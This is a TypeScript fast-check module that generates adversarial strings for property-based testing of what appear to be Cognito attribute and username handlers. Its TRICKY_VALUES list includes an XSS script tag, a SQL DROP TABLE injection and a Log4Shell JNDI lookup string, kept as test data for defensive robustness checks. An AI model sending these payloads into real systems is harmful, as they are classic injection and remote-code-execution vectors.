/**
 * Adversarial strings: what handlers trip on, each still a legal value for its field. Built from
 * fast-check arbitraries (not faker) so a failing property shrinks to a short string.
 */
import fc from 'fast-check';
import { LIMITS } from '../patterns.js';

/**
 * Characters allowed in a username (`[\p{L}\p{M}\p{S}\p{N}\p{P}]`) chosen to break naive code:
 * emoji (with a skin-tone modifier), right-to-left letters, combining marks, CJK, an Indic
 * vowel sign, typographic punctuation, and the ASCII punctuation that usernames really hold.
 */
export const USERNAME_CHARS: readonly string[] = [
  'a', 'Z', '0', '9', '.', '_', '-', '@', '+', '!', '#', '$', '%', '&', "'", '*', '/', '=', '?', '^', '`', '{', '|', '}', '~',
  'é', 'ß', 'ø', 'Ω', 'ж', 'ш', 'ע', 'ש', 'ع', 'ب', 'ی', '\u0301', '\u0308', '\u0336', '漢', '字', 'か', '한', 'न', '\u093f',
  '😀', '🎉', '👍', '\u{1F3FD}', '€', '∑', '«', '»', '…', '—', '‰', '٣', '①',
];

/** Characters for attribute and metadata values: the username set plus space, controls and format marks. */
const VALUE_CHARS: readonly string[] = [
  ...USERNAME_CHARS,
  ' ', '\t', '\n', '\r', '\u0000', '\u00a0', '\u200b', '\u200d', '\u200e', '\u200f', '\u202e', '\ufeff', '"', '\\', '<', '>',
];

/** Literal values that parse as something else or look like a Cognito placeholder. */
const TRICKY_VALUES: readonly string[] = [
  '',
  ' ',
  '  padded  ',
  'true',
  'True',
  'false',
  'FALSE',
  'null',
  'undefined',
  '0',
  '-1',
  '1e309',
  'NaN',
  '{"nested":{"json":true}}',
  '["a","b"]',
  'cognito:default_val',
  '<script>alert(1)</script>',
  "'; DROP TABLE users; --",
  '${jndi:ldap://example.com/a}',
  '👩‍💻👨‍👩‍👧‍👦🏳️‍🌈',
  'مرحبا بالعالم',
  'שלום עולם',
  'abc\u202edcba',
  'e\u0301\u0302\u0303\u0304',
  'Z\u0351\u0352\u0357\u035b\u0363a\u0364\u0365l\u0366g\u0367o',
  '漢字かな交じり文',
  'line1\nline2\r\nline3',
  'tab\tseparated',
  'nul\u0000byte',
];

/** What an adversarial string is for: the allowed characters and the boundary length differ. */
export type AdversarialStringKind = 'value' | 'username' | 'name';

/** Options of {@link adversarialStringArb}. */
export interface AdversarialStringConstraints {
  /** `value` (attribute, metadata, claim values), `username` (the API username pattern, 1–128) or `name` (keys, group names: no blank space). Default `value`. */
  kind?: AdversarialStringKind;
  /** Longest string in characters (code points). Default: the field's limit (2,048 values, 128 usernames, 20 names). */
  maxLength?: number;
}

const BOUNDARY: Record<AdversarialStringKind, number> = {
  value: LIMITS.attributeValue,
  username: LIMITS.username,
  name: LIMITS.customAttributeName,
};

/**
 * An adversarial string: tricky literals, unicode mixes, and strings of exactly the boundary length
 * (a value of 2,048 characters, a username of 128), all within the field's legal range.
 *
 * @example
 * fc.assert(fc.property(adversarialStringArb({ kind: 'username' }), (u) => /^[\p{L}\p{M}\p{S}\p{N}\p{P}]{1,128}$/u.test(u)));
 */
export function adversarialStringArb(constraints: AdversarialStringConstraints = {}): fc.Arbitrary<string> {
  const kind = constraints.kind ?? 'value';
  const limit = Math.min(constraints.maxLength ?? BOUNDARY[kind], BOUNDARY[kind]);
  const minLength = kind === 'value' ? 0 : 1;
  const chars = kind === 'value' ? VALUE_CHARS : USERNAME_CHARS;
  const charArb = fc.constantFrom(...chars);
  const short = fc.string({ unit: charArb, minLength, maxLength: Math.min(limit, 24) });
  // Long strings repeat one character: cheap to build. fast-check biases integers towards both
  // ends of their range, so the exact boundary comes up often, and shrinking walks the length down.
  const boundary = fc.tuple(charArb, fc.integer({ min: minLength, max: limit })).map(([c, n]) => c.repeat(n));
  const arbs: fc.Arbitrary<string>[] = [short, boundary];
  if (kind === 'value') {
    arbs.unshift(fc.constantFrom(...TRICKY_VALUES.filter((v) => [...v].length <= limit)));
    // A grapheme may hold several code points: cut to the limit, which Cognito counts in characters.
    arbs.push(fc.string({ unit: 'grapheme', maxLength: Math.min(limit, 40) }).map((v) => (v.length <= limit ? v : [...v].slice(0, limit).join(''))));
  }
  return fc.oneof(...arbs);
}
